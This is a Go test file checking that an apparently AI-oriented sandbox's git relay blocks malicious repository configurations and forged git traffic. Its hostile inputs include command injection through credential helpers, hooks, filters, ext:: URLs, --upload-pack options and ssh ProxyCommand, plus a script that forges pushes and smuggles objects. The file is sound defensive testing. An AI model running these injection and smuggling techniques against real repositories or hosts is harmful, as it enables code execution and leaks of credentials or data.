package gitremote

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tongs-ai/tongs"
	"github.com/tongs-ai/tongs/engine/approval"
)

// sends reports whether a question is about something that leaves.
func sends(q approval.Question) bool {
	return q.Effects[0].Kind == tongs.EffectNetwork && q.Effects[0].Sends
}

// Nothing that a repository configures runs outside, whatever is transferred. What runs inside cannot make the mark.
func TestNothingOfARepositoryRunsOutside(t *testing.T) {
	s := newServer(t)
	bare := s.repository(t, "shop.git")
	x := newSite(t, s)
	git(t, x.ws, "clone", "-q", bare, ".")
	mark := filepath.Join(x.home, "ran-outside")
	touch := "touch " + mark
	script := filepath.Join(x.ws, "evil.sh")
	must(t, os.WriteFile(script, []byte("#!/bin/sh\n"+touch+"\n"), 0o755))
	must(t, os.WriteFile(filepath.Join(x.ws, ".git", "included"), []byte("[credential]\n\thelper = !"+touch+"\n"), 0o600))
	for _, setting := range [][2]string{
		{"remote.origin.url", s.url("shop.git")},
		{"credential.helper", "!" + touch},
		{"credential.https://" + s.host() + ".helper", "!" + touch},
		{"core.askPass", script},
		{"core.sshCommand", script},
		{"core.gitProxy", script},
		{"core.fsmonitor", script},
		{"core.alternateRefsCommand", script},
		{"include.path", "included"},
		{"alias.push", "!" + touch},
		{"alias.credential", "!" + touch},
		{"filter.evil.clean", script},
		{"filter.evil.smudge", script},
		{"filter.evil.process", script},
		{"diff.external", script},
		{"gpg.program", script},
		{"remote.origin.uploadpack", script},
		{"remote.origin.receivepack", script},
		{"uploadpack.packObjectsHook", script},
		{"protocol.ext.allow", "always"},
		{"fetch.fsckObjects", "true"},
		{"transfer.credentialsInUrl", "allow"},
	} {
		git(t, x.ws, "config", setting[0], setting[1])
	}
	must(t, os.MkdirAll(filepath.Join(x.ws, ".git", "hooks"), 0o755))
	for _, hook := range []string{"pre-push", "reference-transaction", "post-checkout", "post-merge", "pre-receive", "update", "post-update", "pre-auto-gc"} {
		must(t, os.WriteFile(filepath.Join(x.ws, ".git", "hooks", hook), []byte("#!/bin/sh\n"+touch+"\nexit 0\n"), 0o755))
	}
	x.put(".gitattributes", "* filter=evil\n")
	x.open()
	for _, command := range []string{
		"git fetch origin", "git -c core.fsmonitor= push origin HEAD:refs/heads/new",
		"git ls-remote origin", "git fetch 'ext::sh -c \"" + touch + "\"'",
		"git fetch --upload-pack='" + touch + ";git-upload-pack' origin", "git push --receive-pack='" + touch + "' origin HEAD:x",
		"git fetch --upload-pack='" + touch + ";git-upload-pack' ada@" + sshHost + ":x",
	} {
		x.shell(command)
		if _, err := os.Lstat(mark); err == nil {
			t.Fatalf("%s ran something outside", command)
		}
	}
	if !strings.Contains(strings.Join(s.seen, "\n"), "POST /shop.git/git-receive-pack") {
		t.Errorf("nothing was transferred, so that this proves nothing: %v", s.seen)
	}
}

// A setting of the repository can lead git elsewhere. The question tells where, and the credentials of the real remote are not
// used there.
func TestElsewhere(t *testing.T) {
	for name, settings := range map[string]func(real, evil string) [][2]string{
		"insteadOf":     func(real, evil string) [][2]string { return [][2]string{{"url." + evil + ".insteadOf", real}} },
		"pushInsteadOf": func(real, evil string) [][2]string { return [][2]string{{"url." + evil + ".pushInsteadOf", real}} },
		"pushurl of another name": func(_, evil string) [][2]string {
			return [][2]string{{"url." + evil + ".insteadOf", "https://nowhere.example"}, {"remote.origin.pushurl", "https://nowhere.example"}}
		},
	} {
		t.Run(name, func(t *testing.T) {
			s := newServer(t)
			evil := s.repository(t, "evil.git")
			bare := s.repository(t, "shop.git")
			x := newSite(t, s)
			git(t, x.ws, "clone", "-q", bare, ".")
			git(t, x.ws, "remote", "set-url", "origin", s.url("shop.git"))
			for _, setting := range settings(s.url("shop.git"), s.url("evil.git")) {
				git(t, x.ws, "config", setting[0], setting[1])
			}
			x.answer = func(q approval.Question) approval.Answer { return approval.Answer{Approved: !sends(q)} }
			res := x.open().shell("git commit -q --allow-empty -m x && git push origin main")
			has(t, "the output", res.Content, "declined")
			asked := x.pushes()
			if len(asked) != 1 {
				t.Fatalf("asked %+v", asked)
			}
			has(t, "the question", asked[0].Message, "git would log in as you at "+s.url("evil.git"))
			for _, dir := range []string{evil, bare} {
				if n := git(t, dir, "rev-list", "--all", "--count"); n != "1" {
					t.Errorf("%s has %s commits", dir, n)
				}
			}
		})
	}
}

// A hook that pushes something else is asked about what that is.
func TestHookThatPushes(t *testing.T) {
	s := newServer(t)
	evil := s.repository(t, "evil.git")
	bare := s.repository(t, "shop.git")
	x := newSite(t, s)
	git(t, x.ws, "clone", "-q", bare, ".")
	git(t, x.ws, "remote", "set-url", "origin", s.url("shop.git"))
	must(t, os.MkdirAll(filepath.Join(x.ws, ".git", "hooks"), 0o755))
	must(t, os.WriteFile(filepath.Join(x.ws, ".git", "hooks", "pre-push"), []byte("#!/bin/sh\n"+
		"git push --no-verify origin HEAD:refs/heads/other 2>/dev/null\ngit push --no-verify "+s.url("evil.git")+" HEAD:main 2>/dev/null\nexit 0\n"), 0o755))
	x.answer = func(q approval.Question) approval.Answer {
		return approval.Answer{Approved: !sends(q) || strings.HasPrefix(q.Message, "git would push main ") && strings.Contains(q.Message+";", s.url("shop.git")+";")}
	}
	x.open().sh("git commit -q --allow-empty -m mine && git push origin main")
	asked := x.pushes()
	if len(asked) != 3 {
		t.Fatalf("asked %+v", asked)
	}
	has(t, "the first question", asked[0].Message, "push new other (1 commit, ", s.url("shop.git"))
	has(t, "the second question", asked[1].Message, "log in as you at "+s.url("evil.git"))
	if got := git(t, bare, "for-each-ref", "--format=%(refname) %(subject)"); got != "refs/heads/main mine" {
		t.Errorf("the remote has %q", got)
	}
	if got := git(t, evil, "for-each-ref", "--format=%(refname) %(subject)"); got != "refs/heads/main first" {
		t.Errorf("the other has %q", got)
	}
}

// A program cannot make its own remote one of the repository's.
func TestOwnRemotesAreThoseOutside(t *testing.T) {
	s := newServer(t)
	s.repository(t, "secret.git")
	x, _ := cloned(t, s, "shop.git")
	x.answer = func(q approval.Question) approval.Answer { // a person who agreed to a change of .git/config agreed to its remotes
		return approval.Answer{Approved: q.Effects[0].Kind == tongs.EffectNetwork && !sends(q)}
	}
	for _, command := range []string{
		"git -c remote.x.url=" + s.url("secret.git") + " fetch x",
		"git remote add x " + s.url("secret.git") + "; git fetch x",
		"printf '[remote \"x\"]\\nurl = " + s.url("secret.git") + "\\n' >> .git/config; git fetch x",
		"mv .git .other; cp -r .other .git; git remote add x " + s.url("secret.git") + "; git fetch x",
		"cp -r .git /tmp/g; git --git-dir /tmp/g remote add x " + s.url("secret.git") + "; mv .git .o; ln -s /tmp/g .git; git fetch x",
		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.x.url GIT_CONFIG_VALUE_0=" + s.url("secret.git") + " git fetch x",
		"git clone " + strings.Replace(s.url("secret.git"), "secret.git", "shop.git/../secret.git", 1),
		"git clone " + strings.Replace(s.url("secret.git"), "secret.git", "shop.git/%2e%2e/secret.git", 1),
		"git clone " + strings.Replace(s.url("secret.git"), "secret.git", "/secret.git", 1),
	} {
		res := x.shell(command + " 2>&1; true")
		if strings.Contains(strings.Join(s.seen, " "), "secret") {
			t.Fatalf("%s reached it: %s", command, res.Content)
		}
	}
}

// speak is a program that speaks to the relay itself, as git would: METHOD URL [FILE], with headers in HEADERS.
const speak = `import os, socket, ssl, sys, urllib.parse
method, url = sys.argv[1:3]
u = urllib.parse.urlsplit(url)
body = open(sys.argv[3], 'rb').read() if len(sys.argv) > 3 else b''
s = socket.create_connection(('127.0.0.1', 3128))
s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: git/2.39.5\r\n\r\n' % (u.netloc, u.netloc)).encode())
assert b' 200 ' in s.recv(4096)
s = ssl.create_default_context(cafile=os.environ['GIT_SSL_CAINFO']).wrap_socket(s, server_hostname=u.hostname)
path = url.split(u.netloc, 1)[1]
s.sendall(('%s %s HTTP/1.1\r\nHost: elsewhere\r\nUser-Agent: git/2.39.5\r\nConnection: close\r\nContent-Length: %d\r\n%s\r\n' % (method, path, len(body), os.environ.get('HEADERS', '').replace('|', '\r\n'))).encode() + body)
while True:
    data = s.recv(65536)
    if not data:
        break
    sys.stdout.write(data.decode('latin1'))
`

// Credentials open nothing but git's services.
func TestOnlyGitServices(t *testing.T) {
	s := newServer(t)
	x, _ := cloned(t, s, "shop.git")
	x.put("speak.py", speak)
	for _, request := range []string{
		"GET " + s.url("shop.git/config"), "GET " + s.url("shop.git/HEAD"), "GET " + s.url("settings/tokens"), "GET " + s.url("shop.git/info/refs"),
		"GET '" + s.url("shop.git/info/refs?service=git-upload-pack&x=1") + "'", "GET '" + s.url("x?service=git-upload-pack") + "'",
		"GET '" + s.url("shop.git/info/refs?service=git-upload-archive") + "'", "DELETE " + s.url("shop.git/git-upload-pack"),
		"POST " + s.url("shop.git/info/lfs/objects/batch"), "PUT " + s.url("shop.git/git-receive-pack"),
		"POST '" + s.url("shop.git/git-upload-pack?x=1") + "'", "GET '" + s.url("shop.git%0aX/info/refs?service=git-upload-pack") + "'",
	} {
		out := x.sh("python3 speak.py " + request)
		has(t, request, out, "HTTP/1.1 403", "tongs: ")
	}
	if len(s.seen) != 0 {
		t.Errorf("the server saw %v", s.seen)
	}
	if list := x.network(); len(list) != 0 {
		t.Errorf("asked about %v", list)
	}
}

// line is a line of git's protocol.
func line(text string) string { return fmt.Sprintf("%04x%s", len(text)+4, text) }

// A push that no git would make is refused, and not one byte of it sent.
func TestForgedPushes(t *testing.T) {
	s := newServer(t)
	x, bare := cloned(t, s, "shop.git")
	x.put("speak.py", speak)
	none, main := strings.Repeat("0", 40), git(t, bare, "rev-parse", "main")
	const can = "\x00 report-status side-band-64k"
	caps := "GET '" + s.url("shop.git/info/refs?service=git-receive-pack") + "'"
	x.answer = func(q approval.Question) approval.Answer { return approval.Answer{Approved: !sends(q)} }
	for name, c := range map[string]struct{ body, says string }{
		"a newline in a name":       {line(none+" "+main+" refs/heads/a\nrefs/heads/b"+can) + "0000", "is not the name of a branch"},
		"an escape in a name":       {line(none+" "+main+" refs/heads/\x1b[2Ka"+can) + "0000", "is not the name of a branch"},
		"a name outside":            {line(none+" "+main+" config"+can) + "0000", "is not the name of a branch"},
		"dots":                      {line(none+" "+main+" refs/heads/../../config"+can) + "0000", "is not the name of a branch"},
		"another old value":         {line(strings.Repeat("1", 40)+" "+none+" refs/heads/main"+can) + "0000", "is not what git takes it for"},
		"no old value":              {line(none+" "+main+" refs/heads/main"+can) + "0000", "is not what git takes it for"},
		"no object":                 {line(none+" nonsense refs/heads/x"+can) + "0000", "cannot be read"},
		"a certificate":             {line("push-cert\x00 push-cert=x") + "0000", "cannot be read"},
		"no lines":                  {"garbage", "no valid length"},
		"a cut line":                {"00ff" + none, "unexpected EOF"},
		"no pack":                   {line(none+" "+main+" refs/heads/x"+can) + "0000", "is not sound"},
		"garbage instead of a pack": {line(none+" "+main+" refs/heads/x"+can) + "0000" + strings.Repeat("PACK", 1000), "is not sound"},
		"endless lines":             {strings.Repeat(line(none+" "+main+" refs/heads/x"), 20000), "too many lines"},
		"many references":           {strings.Repeat(line(none+" "+main+" refs/heads/x"), 1500) + "0000", "more than 1000 references"},
	} {
		x.put("body", c.body)
		out := x.sh("python3 speak.py " + caps + " >/dev/null; python3 speak.py POST " + s.url("shop.git/git-receive-pack") + " body")
		has(t, name, out, c.says)
	}
	x.put("body", line(main+" "+none+" refs/heads/main"+can)+"0000")
	out := x.sh("python3 speak.py " + caps + " >/dev/null; HEADERS='Content-Encoding: gzip|' python3 speak.py POST " + s.url("shop.git/git-receive-pack") + " body")
	has(t, "a compressed push", out, "is compressed")
	for _, seen := range s.seen {
		if strings.HasPrefix(seen, "POST") {
			t.Errorf("the server saw %v", s.seen)
		}
	}
	if list := x.pushes(); len(list) != 0 {
		t.Errorf("asked about %v", list)
	}
}

// What belongs to nothing that is pushed is not sent along.
func TestSmuggledObjects(t *testing.T) {
	s := newServer(t)
	x, bare := cloned(t, s, "shop.git")
	x.put("speak.py", speak)
	x.put("smuggle.sh", `set -e
git commit -q --allow-empty -m honest
secret=$(echo secret | git hash-object -w --stdin)
caps='report-status side-band-64k'
l="$(git rev-parse HEAD~1) $(git rev-parse HEAD) refs/heads/main"
printf '%04x%s\0 %s' $((4 + ${#l} + 2 + ${#caps})) "$l" "$caps" > body
printf 0000 >> body
{ git rev-parse HEAD; [ "$1" = honest ] || echo $secret; } | git pack-objects -q --stdout >> body
python3 speak.py GET "$URL/info/refs?service=git-receive-pack" >/dev/null
python3 speak.py POST "$URL/git-receive-pack" body
`)
	run := "URL=" + s.url("shop.git") + " sh smuggle.sh "
	has(t, "a smuggled object", x.sh(run+"x"), "belongs to nothing that is pushed")
	if list := x.pushes(); len(list) != 0 {
		t.Errorf("asked about %v", list)
	}
	git(t, x.ws, "reset", "-q", "--hard", "HEAD~1")
	has(t, "an honest one", x.sh(run+"honest"), "ok refs/heads/main")
	if got := git(t, bare, "log", "-1", "--format=%s", "main"); got != "honest" {
		t.Errorf("the remote has %q", got)
	}
}

// The question shows names as they are.
func TestNamesInQuestions(t *testing.T) {
	s := newServer(t)
	x, _ := cloned(t, s, "shop.git")
	x.put("names.sh", "git commit -q --allow-empty -m \"$(printf 'nice\\033[2K\\nhidden \\342\\200\\256txt')\"\n"+
		"git push -q origin \"HEAD:refs/heads/m$(printf '\\320\\260')in\" \"HEAD:refs/heads/a$(printf '\\342\\200\\256')b\"\n")
	x.sh("sh names.sh")
	asked := x.pushes()
	if len(asked) != 1 {
		t.Fatalf("asked %+v", asked)
	}
	has(t, "the question", asked[0].Message, `push new m\xd0\xb0in (1 commit, `, `push new a\xe2\x80\xaeb (1 commit, `)
	has(t, "the preview", asked[0].Preview, "nice")
	if strings.ContainsAny(asked[0].Preview+asked[0].Message, "\x1b\u202e") {
		t.Errorf("%q %q", asked[0].Message, asked[0].Preview)
	}
}

// A server that leads elsewhere is followed only with a question about that.
func TestRedirect(t *testing.T) {
	other := newServer(t)
	other.repository(t, "open.git")
	listener, err := net.Listen("tcp", "127.0.0.3:0")
	must(t, err)
	lead := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.URL+"/open.git/info/refs?"+r.URL.RawQuery, http.StatusFound)
	})}
	go func() { _ = lead.Serve(listener) }()
	t.Cleanup(func() { _ = lead.Close() })
	x := newSite(t, other, listener.Addr().String()).open()
	x.sh("git clone -q http://" + listener.Addr().String() + "/x copy && cat copy/README")
	var hosts []string
	for _, e := range x.network() {
		hosts = append(hosts, e.Host)
	}
	if strings.Join(hosts, " ") != listener.Addr().String()+" "+other.host() {
		t.Errorf("asked about %v", hosts)
	}
}

// The ssh of the sandbox does nothing but git's services, with no option of anybody.
func TestSSHIsForGitOnly(t *testing.T) {
	s, x, _ := clonedSSH(t)
	mark := filepath.Join(x.home, "ran-outside")
	for name, command := range map[string]string{
		"a shell":           "$GIT_SSH_COMMAND " + s.user + "@" + sshHost,
		"a command":         "$GIT_SSH_COMMAND -p " + s.port + " " + s.user + "@" + sshHost + " 'touch " + mark + "'",
		"a command beside":  "$GIT_SSH_COMMAND -p " + s.port + " " + s.user + "@" + sshHost + " \"git-upload-pack 'x'; touch " + mark + "\"",
		"a quote":           "$GIT_SSH_COMMAND -p " + s.port + " " + s.user + "@" + sshHost + " \"git-upload-pack 'x''; touch " + mark + ";'\"",
		"an option":         "$GIT_SSH_COMMAND -o ProxyCommand='touch " + mark + "' x \"git-upload-pack 'x'\"",
		"a host option":     "$GIT_SSH_COMMAND -- -oProxyCommand=touch \"git-upload-pack 'x'\"",
		"a user option":     "$GIT_SSH_COMMAND -oProxyCommand=x@y \"git-upload-pack 'x'\"",
		"a host with blank": "$GIT_SSH_COMMAND 'x y' \"git-upload-pack 'x'\"",
		"a path option":     "$GIT_SSH_COMMAND -p " + s.port + " " + s.user + "@" + sshHost + " \"git-upload-pack '--x'\"",
		"a newline":         "$GIT_SSH_COMMAND -p " + s.port + " " + s.user + "@" + sshHost + " \"git-upload-pack 'x\ny'\"",
		"upload-pack":       "git fetch --upload-pack='touch " + mark + "; git-upload-pack' origin",
		"receive-pack":      "git push --receive-pack='touch " + mark + ";' origin HEAD:x",
	} {
		res := x.shell("eval " + "\"set -f\"; " + strings.Replace(command, "$GIT_SSH_COMMAND", `sh -c "$GIT_SSH_COMMAND \"\$@\"" ssh`, 1))
		if res.Metadata["exitCode"] == 0 || !strings.Contains(res.Content, "tongs: ") {
			t.Errorf("%s: exit %v: %s", name, res.Metadata["exitCode"], res.Content)
		}
		if _, err := os.Lstat(mark); err == nil {
			t.Fatalf("%s ran something", name)
		}
	}
	for _, e := range x.network() {
		if !e.Unknown { // that is about the command line, before it runs
			t.Errorf("asked about %v", e)
		}
	}
}
